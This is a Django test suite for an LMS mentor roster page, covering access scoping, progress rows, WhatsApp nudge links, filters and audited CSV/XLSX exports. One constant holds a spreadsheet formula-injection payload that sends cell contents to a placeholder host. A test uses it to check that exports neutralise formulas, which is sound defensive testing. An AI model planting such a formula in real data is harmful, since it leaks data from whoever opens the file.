"""Admin → My classes: the class roster, its filters, WhatsApp nudges, the class group's message
and the export, each scoped to the classes the viewer may see."""

import urllib.parse
from datetime import timedelta
from decimal import Decimal

import pytest
from django.contrib.auth.models import Group
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from django.utils import timezone, translation
from wagtail.models import ModelLogEntry

from certificates.models import Certificate
from courses.models import Cohort, LessonCompletion, WeekPage
from courses.services import enrolment_start
from lms import audit, roles
from mentoring import roster
from mentoring.models import State, Submission
from mentoring.roster_views import NUDGE_LABELS
from mentoring.selectors import roster_rows
from quizzes.models import Phase, QuizAttempt
from tests.factories import (
    BusinessFactory,
    MembershipFactory,
    UserFactory,
    build_assignment,
    build_course,
    build_quiz,
    lessons_of,
)
from tests.spreadsheets import read_csv, read_xlsx

ROSTER = "/admin/kelas-saya/"
EXPORT = "/admin/kelas-saya/export/"
HYPERLINK = '=HYPERLINK("http://x.example/?d="&A1,"Klik")'


@pytest.fixture
def course(db):
    """Three weeks of two lessons; a quiz in week 1; an own assignment in week 1 and a
    per-business one in week 2."""
    course = build_course(weeks=3, lessons_per_week=2, slug="pemasaran")
    week1, week2, _week3 = WeekPage.objects.child_of(course).order_by("path")
    build_quiz(week1)
    titled(build_assignment(week1), "Buka akun bisnis")
    titled(build_assignment(week2, per_business=True), "Foto produk")
    return course


def titled(page, title):
    page.title = title
    page.save(update_fields=["title", "draft_title"])
    return page


@pytest.fixture
def classes(course, mentor, other_mentor):
    """The mentor's class in its second week, and another mentor's class."""
    start = timezone.localdate() - timedelta(days=8)
    mine = Cohort.objects.create(name="Kelas Rina", course=course, start_date=start, mentor=mentor)
    theirs = Cohort.objects.create(
        name="Kelas Budi", course=course, start_date=start, mentor=other_mentor
    )
    return mine, theirs


def enrol(cohort, name, *, business=None, phone=None, **fields):
    learner = UserFactory(
        full_name=name,
        groups=[Group.objects.get(name=roles.LEARNERS)],
        **({"phone": phone} if phone else {}),
        **fields,
    )
    MembershipFactory(user=learner, business=business or BusinessFactory(name=f"Usaha {name}"))
    enrolment_start(learner=learner, course=cohort.course, cohort=cohort)
    return learner


def do_lessons(learner, course, count):
    LessonCompletion.objects.bulk_create(
        LessonCompletion(learner=learner, course=course, lesson=lesson, lesson_title=lesson.title)
        for lesson in lessons_of(course)[:count]
    )


def hand_in(assignment, learner, state, *, business=None):
    return Submission.objects.create(
        assignment=assignment,
        course=assignment.get_parent().get_parent().specific,
        learner=learner,
        business=business,
        state=state,
        assignment_title=assignment.title,
    )


def quiz_attempt(learner, course, *, passed):
    from quizzes.models import QuizPage

    quiz = QuizPage.objects.descendant_of(course).get()
    return QuizAttempt.objects.create(
        learner=learner,
        course=course,
        page=quiz,
        phase=Phase.QUIZ,
        number=1,
        title=quiz.title,
        score_percent=Decimal(90 if passed else 20),
        pass_mark_percent=70,
        passed=passed,
    )


def assignments(course):
    from mentoring.models import AssignmentPage

    return list(AssignmentPage.objects.descendant_of(course).order_by("path"))


@pytest.fixture
def people(course, classes):
    """In the mentor's class: Sumarni (every lesson due done, a hand-in waiting), Joko (her
    business's member: one lesson done, the quiz failed, the business's hand-in sent back),
    Dewi (nothing done, no phone); in the other class: Wati."""
    mine, theirs = classes
    first, second = assignments(course)
    sumarni = enrol(mine, "Sumarni", phone="+6281111111111")
    business = sumarni.membership.business
    joko = enrol(mine, "Joko", business=business, phone="+6281222222222")
    dewi = enrol(mine, "Dewi")
    dewi.phone = None
    dewi.email = "dewi@example.org"
    dewi.save()
    wati = enrol(theirs, "Wati", phone="+6281333333333")
    do_lessons(sumarni, course, 4)
    quiz_attempt(sumarni, course, passed=True)
    hand_in(first, sumarni, State.HANDED_IN)
    hand_in(second, joko, State.NEEDS_REVISION, business=business)  # counts for Sumarni too
    do_lessons(joko, course, 1)
    quiz_attempt(joko, course, passed=False)
    do_lessons(wati, course, 2)
    return {"sumarni": sumarni, "joko": joko, "dewi": dewi, "wati": wati}


def page_of(client, user, **params):
    client.force_login(user)
    response = client.get(ROSTER, params)
    assert response.status_code == 200
    return response.content.decode()


def whatsapp_message(page, number):
    start = page.index(f"https://wa.me/{number}?text=")
    href = page[start : page.index('"', start)].replace("&amp;", "&")
    return urllib.parse.unquote(href.split("?text=", 1)[1])


# --- scope ------------------------------------------------------------------------------------


def test_a_mentor_with_one_class_lands_on_it_and_sees_only_its_learners(client, mentor, people):
    page = page_of(client, mentor)

    assert "Kelas Rina" in page
    for name in ("Sumarni", "Joko", "Dewi"):
        assert name in page
    assert "Wati" not in page
    assert "Kelas Budi" not in page


def test_a_mentor_asking_for_another_mentors_class_gets_404(client, mentor, classes, people):
    client.force_login(mentor)
    theirs = classes[1]

    assert client.get(ROSTER, {"cohort": theirs.pk}).status_code == 404
    assert client.get(EXPORT, {"cohort": theirs.pk, "export": "csv"}).status_code == 404
    assert not ModelLogEntry.objects.filter(action=audit.EXPORT_PERSONAL_DATA).exists()


@pytest.mark.parametrize("value", ["abc", "-1", "99999999999999999999999", "1\x00", "²"])
def test_a_malformed_class_is_a_404_not_a_500(client, mentor, people, value):
    client.force_login(mentor)

    assert client.get(ROSTER, {"cohort": value}).status_code == 404


def test_a_coordinator_chooses_any_class(client, coordinator, classes, people):
    mine, theirs = classes

    chooser = page_of(client, coordinator)
    assert "Kelas Rina" in chooser
    assert "Kelas Budi" in chooser
    assert "Sumarni" not in chooser  # two classes: no roster until one is chosen

    page = page_of(client, coordinator, cohort=theirs.pk)
    assert "Wati" in page
    assert "Sumarni" not in page


def test_a_learner_has_no_roster(client, people):
    client.force_login(people["sumarni"])

    assert client.get(ROSTER).status_code in (302, 403)
    assert client.get(EXPORT, {"export": "csv"}).status_code in (302, 403)


def test_a_staff_member_who_is_no_mentor_is_refused(client, people):
    editor = UserFactory(full_name="Editor", is_staff=True, is_superuser=False)
    editor.user_permissions.add(*_admin_access())
    client.force_login(editor)

    response = client.get(ROSTER)

    assert response.status_code == 302  # the admin's answer to PermissionDenied
    assert response.url == "/admin/"


def _admin_access():
    from django.contrib.auth.models import Permission

    return Permission.objects.filter(codename="access_admin")


def test_the_menu_offers_my_classes_to_mentors(client, mentor, people):
    client.force_login(mentor)

    page = client.get("/admin/").content.decode()

    assert reverse("mentoring_roster:roster") in page


def test_the_selector_gives_no_rows_of_another_mentors_class(mentor, classes, people):
    theirs = classes[1]

    assert roster_rows(user=mentor, cohort=theirs).rows == []


# --- what a row shows ---------------------------------------------------------------------


def test_rows_show_business_progress_quiz_assignment_and_certificate(mentor, classes, people):
    mine = classes[0]
    certificate = Certificate.objects.create(
        learner=people["sumarni"],
        course=mine.course,
        serial="PU-2026-000001",
        holder_name="Sumarni",
        course_title=mine.course.title,
        completed_on=timezone.localdate(),
    )

    result = roster_rows(user=mentor, cohort=mine)

    assert result.week_number == 2
    assert result.total == 3
    rows = {row.learner.full_name: row for row in result.rows}
    assert list(rows) == ["Dewi", "Joko", "Sumarni"]  # by name
    sumarni, joko, dewi = rows["Sumarni"], rows["Joko"], rows["Dewi"]
    assert sumarni.business.name == "Usaha Sumarni"
    assert (sumarni.progress.done, sumarni.progress.total) == (4, 6)
    assert sumarni.quiz_states == [roster.QUIZ_PASSED]
    # own hand-in; the business's hand-in (by Joko) counts for her too
    assert sumarni.assignment_states == [State.HANDED_IN, State.NEEDS_REVISION]
    assert sumarni.certificate_serial == certificate.serial
    assert sumarni.nudge.kind == roster.DONE
    assert sumarni.last_visit is not None  # her lessons, attempt and hand-in
    assert joko.quiz_states == [roster.QUIZ_FAILED]
    assert joko.assignment_states == ["", State.NEEDS_REVISION]
    assert joko.nudge.kind == roster.REVISION
    assert "Foto produk" in joko.nudge.message
    assert dewi.quiz_states == [roster.QUIZ_NOT_TAKEN]
    assert dewi.nudge.kind == roster.NOT_STARTED
    assert dewi.last_visit is None
    assert dewi.whatsapp_url == ""  # no number: no button


def test_a_revoked_certificate_is_no_certificate(mentor, classes, people):
    mine = classes[0]
    Certificate.objects.create(
        learner=people["sumarni"],
        course=mine.course,
        serial="PU-2026-000002",
        holder_name="Sumarni",
        course_title=mine.course.title,
        completed_on=timezone.localdate(),
        revoked_at=timezone.now(),
    )

    rows = {row.learner.full_name: row for row in roster_rows(user=mentor, cohort=mine).rows}

    assert rows["Sumarni"].certificate_serial == ""


def test_last_visit_is_the_latest_sign_in_or_activity(mentor, classes, people):
    mine = classes[0]
    later = timezone.now() + timedelta(hours=1)
    dewi = people["dewi"]
    dewi.last_login = later
    dewi.save(update_fields=["last_login"])

    rows = {row.learner.full_name: row for row in roster_rows(user=mentor, cohort=mine).rows}

    assert rows["Dewi"].last_visit == later


def test_the_whatsapp_button_opens_a_chat_with_the_number_and_the_nudge(client, mentor, people):
    page = page_of(client, mentor)

    message = whatsapp_message(page, "6281222222222")  # Joko
    with translation.override("id"):
        expected = roster.REVISION_MESSAGE % {
            "name": "Joko",
            "course": "Kursus pemasaran",
            "assignment": "Foto produk",
        }
    assert message == str(expected)
    assert page.count("https://wa.me/") == 2  # Dewi has no number


def test_the_class_group_message_lists_this_weeks_lessons_and_assignment(client, mentor, people):
    page = page_of(client, mentor)

    start = page.index('id="id_class_message"')
    text = page[page.index(">", start) + 1 : page.index("</textarea>", start)]
    assert "Pelajaran 2.1" in text
    assert "Pelajaran 2.2" in text
    assert "Foto produk" in text
    assert "Pelajaran 1.1" not in text  # last week's
    assert 'data-copy-button="id_class_message"' in page
    assert "js/copy.js" in page


# --- filters ------------------------------------------------------------------------------


def names_in(page):
    return {name for name in ("Sumarni", "Joko", "Dewi") if f"<td>{name}" in page}


def test_filter_behind_this_week(client, mentor, people):
    assert names_in(page_of(client, mentor, show="behind")) == {"Joko", "Dewi"}


def test_filter_not_started(client, mentor, people):
    assert names_in(page_of(client, mentor, show="not_started")) == {"Dewi"}


def test_filter_waiting_for_review(client, mentor, people):
    assert names_in(page_of(client, mentor, show="waiting")) == {"Sumarni"}


def test_an_unknown_filter_shows_everyone(client, mentor, people):
    assert names_in(page_of(client, mentor, show="x\x00")) == {"Sumarni", "Joko", "Dewi"}


def test_a_filter_nobody_matches_says_so(client, mentor, course, people):
    do_lessons(people["dewi"], course, 1)

    page = page_of(client, mentor, show="not_started")

    assert names_in(page) == set()
    with translation.override("id"):
        assert translation.gettext("No learner of this class matches this filter.") in page


# --- export -------------------------------------------------------------------------------


def test_export_is_scoped_audited_and_has_no_phone_for_a_mentor(client, mentor, classes, people):
    mine = classes[0]
    client.force_login(mentor)

    response = client.get(EXPORT, {"cohort": mine.pk, "export": "csv", "show": "behind"})

    assert response.status_code == 200
    assert "kelas_pemasaran_kelas-rina_behind" in response["Content-Disposition"]
    rows = read_csv(response)
    names = [row[0] for row in rows[1:]]
    assert names == ["Dewi", "Joko"]
    assert not any("+62" in cell or "0812" in cell for row in rows for cell in row)
    entry = ModelLogEntry.objects.get(action=audit.EXPORT_PERSONAL_DATA)
    assert entry.user == mentor
    assert entry.data["report"] == "mentoring.roster"
    assert entry.data["rows"] == 2
    assert "Kelas Rina" in entry.data["filters"]["cohort"]


def test_export_columns_for_a_coordinator_include_the_phone(client, coordinator, classes, people):
    mine = classes[0]
    client.force_login(coordinator)

    response = client.get(EXPORT, {"cohort": mine.pk, "export": "xlsx"})

    sheet = read_xlsx(response)
    rows = [[cell.value for cell in row] for row in sheet.iter_rows()]
    with translation.override("id"):
        headings = [translation.gettext(text) for text in ("Name", "Mobile number", "Business")]
        revision = str(NUDGE_LABELS[roster.REVISION])
    assert rows[0][:3] == headings
    by_name = {row[0]: row for row in rows[1:]}
    assert set(by_name) == {"Sumarni", "Joko", "Dewi"}
    assert by_name["Joko"][1:3] == [people["joko"].phone_display, "Usaha Sumarni"]
    assert by_name["Joko"][-1] == revision
    assert ModelLogEntry.objects.get(action=audit.EXPORT_PERSONAL_DATA).data["format"] == "xlsx"


def test_a_formula_in_a_name_comes_out_inert(client, mentor, classes, people):
    mine = classes[0]
    enrol(mine, HYPERLINK, phone="+6281444444444")
    client.force_login(mentor)

    csv_rows = read_csv(client.get(EXPORT, {"cohort": mine.pk, "export": "csv"}))
    xlsx = read_xlsx(client.get(EXPORT, {"cohort": mine.pk, "export": "xlsx"}))

    assert [row[0] for row in csv_rows if "HYPERLINK" in row[0]] == ["'" + HYPERLINK]
    cells = [row[0] for row in xlsx.iter_rows() if "HYPERLINK" in str(row[0].value)]
    assert [cell.value for cell in cells] == [HYPERLINK]
    assert cells[0].data_type == "s"  # text, never a formula


def test_export_without_a_class_or_format_is_a_404(client, coordinator, classes, people):
    client.force_login(coordinator)

    assert client.get(EXPORT, {"export": "csv"}).status_code == 404  # two classes: none chosen
    assert client.get(EXPORT, {"cohort": classes[0].pk, "export": "pdf"}).status_code == 404
    assert not ModelLogEntry.objects.filter(action=audit.EXPORT_PERSONAL_DATA).exists()


# --- queries ------------------------------------------------------------------------------


def _fill_class(cohort, first, size):
    course = cohort.course
    own, per_business = assignments(course)
    for n in range(first, first + size):
        learner = enrol(cohort, f"Peserta {n:03d}", phone=f"+62813{n:08d}")
        do_lessons(learner, course, n % 5)
        if n % 3 == 0:
            quiz_attempt(learner, course, passed=n % 2 == 0)
        if n % 4 == 0:
            hand_in(own, learner, State.HANDED_IN)
        if n % 5 == 0:
            hand_in(per_business, learner, State.ACCEPTED, business=learner.membership.business)


ROSTER_QUERIES = 20  # session, user, permissions, menus: the class adds 8, whatever its size


def _queries(client, url, params=None):
    with CaptureQueriesContext(connection) as queries:
        response = client.get(url, params or {})
        if response.streaming:
            b"".join(response.streaming_content)
    assert response.status_code == 200
    return len(queries), response


def test_roster_and_export_queries_are_the_same_for_20_and_200_learners(client, mentor, classes):
    mine = classes[0]
    _fill_class(mine, 0, 20)
    client.force_login(mentor)
    client.get(ROSTER)  # warm the session, permissions and page-tree caches
    export = {"cohort": mine.pk, "export": "csv"}

    small_page, response = _queries(client, ROSTER)
    assert response.content.decode().count("https://wa.me/") == 20
    small_export, _response = _queries(client, EXPORT, export)
    _fill_class(mine, 20, 180)
    large_page, response = _queries(client, ROSTER)
    assert response.content.decode().count("https://wa.me/") == 200
    large_export, response = _queries(client, EXPORT, export)

    assert small_page == large_page <= ROSTER_QUERIES
    assert small_export == large_export <= ROSTER_QUERIES
